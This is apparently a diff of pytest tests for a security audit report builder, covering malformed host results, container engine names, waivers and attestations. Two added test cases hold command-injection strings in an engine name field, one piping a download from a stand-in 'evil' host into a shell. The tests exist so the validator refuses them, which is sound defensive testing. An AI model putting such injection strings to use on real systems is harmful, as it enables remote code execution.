@@ -160,7 +160,7 @@ def changed(key: str, value: Any) -> dict[str, Any]:
         ({"host": "web1", "status": "audited", "message": None, "result": None}, "result is null where a"),
         ({"host": "web1", "status": "audited"}, "result is null where a dictionary is to be"),
         ({**reports.audited("web1", []), "result": {"schema": 2}}, "schema 2, this report reads schema 1"),
-        (without("waivers"), "result has no waivers"),
+        (without("findings"), "result has no findings"),
         (
             told("containers", "x" * 9),
             "result.engines[0].containers is text where an integer or null is to be",
@@ -188,6 +188,11 @@ def changed(key: str, value: Any) -> dict[str, Any]:
         (changed("evidence", deep(100_000)), "is nested more than 32 deep"),
         (changed("evidence", [0] * 1_000_001), "result holds more than 1000000 values"),
         (changed("evidence", [LONG] * 1100), "result holds more than 67108864 characters"),
+        (
+            changed("engine", "rootless:root -e x='; curl evil|sh'"),
+            'result.findings[0].engine is no name of an engine, such as system or rootless:ada: "rootless:root',
+        ),
+        (told("name", "rootless:$(evil)"), "result.engines[0].name is no name of an engine"),
         (twice(), "result.findings has listener.docker_api_unauthenticated twice for one engine"),
     ],
 )
@@ -215,33 +220,106 @@ def test_malformed_entries_are_refused_by_name(hosts, sentence):
         build_report(hosts, "Audit")
 
 
-def accepted(state: str, matched: int) -> dict[str, Any]:
+WAIVER = {
+    "control": CONTROL["control"],
+    "subject": "agent-*",
+    "reason": "r",
+    "owner": "o",
+    "expires": "2026-11-22",
+}
+DATES = {"active": "2026-11-22", "expired": "2026-11-23"}
+
+
+def failing(host: str, *names: str, date: str = DATES["active"], **more: Any) -> dict[str, Any]:
+    """A host where a control fails for the subjects, in a play with a waiver."""
+    found = reports.finding(CONTROL, "fail", [reports.subject("socket", name) for name in names])
     return {
-        "control": "container.privileged",
-        "subject": "agent",
-        **reports.waiver(),
-        "state": state,
-        "matched": matched,
+        **reports.audited(host, [{**found, **more}]),
+        "waivers": [WAIVER],
+        "attestations": [],
+        "date": date,
     }
 
 
 @pytest.mark.parametrize(
-    ("states", "state", "matched", "hosts"),
+    ("hosts", "date", "state", "matched", "on"),
     [
-        ([("active", 2), ("unmatched", 0)], "active", 2, ["a"]),
-        ([("unmatched", 0), ("active", 1)], "active", 1, ["b"]),
-        ([("unmatched", 0), ("unmatched", 0)], "unmatched", 0, []),
-        ([("expired", 0), ("expired", 3)], "expired", 3, ["b"]),
-        ([("active", 1), ("expired", 3)], "expired", 4, ["a", "b"]),
+        ((["agent-1", "agent-2"], ["web"]), "active", "active", 2, ["a"]),
+        ((["web"], ["agent-1"]), "active", "active", 1, ["b"]),
+        ((["web"], []), "active", "unmatched", 0, []),
+        ((["web"], ["agent-1"]), "expired", "expired", 1, ["b"]),
+        ((["web"], []), "expired", "expired", 0, []),
     ],
 )
-def test_a_waiver_of_several_hosts_is_one(states, state, matched, hosts):
-    entries = [
-        reports.audited(name, [], waivers=[accepted(*found)])
-        for name, found in zip("ab", states, strict=True)
+def test_a_waiver_of_several_hosts_is_one(hosts, date, state, matched, on):
+    entries = [failing(host, *names, date=DATES[date]) for host, names in zip("ab", hosts, strict=True)]
+    document = report(entries)
+    VALIDATOR.validate(document)
+    (waiver,) = document["waivers"]
+    assert (waiver["state"], waiver["matched"], waiver["hosts"]) == (state, matched, on)
+
+
+def test_no_host_changes_a_waiver_or_makes_one_up():
+    """S12: what a host says of waivers, of the play's or of its own, is not looked at."""
+    told = {"reason": "Approved by CISO", "owner": "CISO", "expires": "2099-12-31", "state": "active"}
+    evil = failing("evil", "agent-1", "web")
+    evil["result"]["waivers"] = [
+        {**WAIVER, "state": "expired", "matched": 10**9},
+        {"control": CONTROL["control"], "subject": "*", **told, "matched": 1},
     ]
-    (waiver,) = report(entries)["waivers"]
-    assert (waiver["state"], waiver["matched"], waiver["hosts"]) == (state, matched, hosts)
+    evil["result"]["findings"][0]["waived"] = True
+    for subject in evil["result"]["findings"][0]["subjects"]:
+        subject["waiver"] = told
+    document = report([failing("good", "agent-2"), evil])
+    assert [(one["reason"], one["state"], one["matched"]) for one in document["waivers"]] == [
+        ("r", "active", 2)
+    ]
+    assert "CISO" not in json.dumps(document)
+    assert {one["host"]: one["waived"] for one in document["findings"]} == {"good": True, "evil": False}
+    assert {row["host"]: row["verdicts"]["waived"] for row in document["hosts"]} == {"good": 1, "evil": 0}
+    assert {row["host"]: row["score"]["failed"] > 0 for row in document["hosts"]} == {
+        "good": False,
+        "evil": True,
+    }
+
+
+def test_nothing_is_waived_where_the_play_has_chosen_nothing_or_nothing_is_named():
+    entry = failing("a", "agent-1", waived=True)
+    del entry["waivers"]
+    assert not report([entry])["findings"][0]["waived"]
+    assert not report([failing("a")])["findings"][0]["waived"]
+
+
+@pytest.mark.parametrize(
+    ("given", "verdict"), [("2099-12-31", "pass"), ("2020-12-31", "manual"), (None, "manual")]
+)
+def test_no_host_makes_up_an_attestation(given, verdict):
+    """S12."""
+    told = {"by": "CISO", "date": "2026-01-01", "valid_until": "2099-12-31", "note": None, "state": "active"}
+    entry = failing("a")
+    entry["result"]["findings"] = [{**reports.finding(CONTROL, "pass", []), "attestation": told}]
+    by_ada = {"control": CONTROL["control"], "by": "Ada", "date": "2020-01-01", "valid_until": given}
+    entry["attestations"] = [by_ada] if given else []
+    document = report([entry])
+    VALIDATOR.validate(document)
+    (finding,) = document["findings"]
+    assert finding["verdict"] == verdict
+    assert (finding["attestation"] or {}).get("by") == ("Ada" if given else None)
+    assert "CISO" not in json.dumps(document)
+    assert document["hosts"][0]["verdicts"][verdict] == 1
+
+
+@pytest.mark.parametrize(
+    ("chosen", "problem"),
+    [
+        ({"date": None}, "host a: its waivers and attestations come without a date"),
+        ({"waivers": "all"}, "host a: its waivers and attestations are no lists"),
+        ({"waivers": [{**WAIVER, "owner": ""}]}, "host a: waivers\\[0\\] .* lacks 'owner'"),
+    ],
+)
+def test_what_the_play_chose_is_refused_where_it_is_malformed(chosen, problem):
+    with pytest.raises(ValueError, match=problem):
+        report([{**failing("a", "x"), **chosen}])
 
 
 def test_keys_that_a_report_does_not_have_are_left_out():
@@ -273,7 +351,6 @@ PASSED, FAILED, UNKNOWN = (
         # One of two engines is left.
         (FAILED, [*PASSED, {**FAILED[0], "engine": "rootless:ada"}], False, False),
         (PASSED, [*PASSED, {**FAILED[0], "engine": "rootless:ada"}], False, True),
-        ([{**FAILED[0], "waived": True}], FAILED, False, True),
     ],
 )
 def test_what_differs_from_the_audit_before(before, after, fixed, new):
@@ -410,10 +487,3 @@ def test_a_lone_surrogate_is_shown_by_its_number():
     """S8: JSON with one is no JSON for many readers."""
     document = report([changed("message", "a\udc80b")])
     assert document["findings"][0]["message"] == "a<U+DC80>b"
-
-
-def test_waivers_of_many_hosts_are_counted_within_the_schema():
-    entries = [reports.audited(name, [], waivers=[accepted("active", 10**9)]) for name in "abc"]
-    document = report(entries)
-    VALIDATOR.validate(document)
-    assert document["waivers"][0]["matched"] == 10**9
